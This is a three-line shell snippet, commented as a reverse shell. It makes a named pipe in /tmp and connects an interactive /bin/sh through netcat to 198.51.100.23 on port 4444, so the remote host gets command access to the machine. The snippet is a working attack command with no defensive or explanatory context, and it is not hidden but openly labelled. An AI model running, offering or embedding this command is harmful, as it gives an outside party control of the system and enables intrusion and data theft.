# reverse-shell: a named pipe ties sh to netcat in both directions
rm -f /tmp/f; mkfifo /tmp/f
cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.23 4444 > /tmp/f
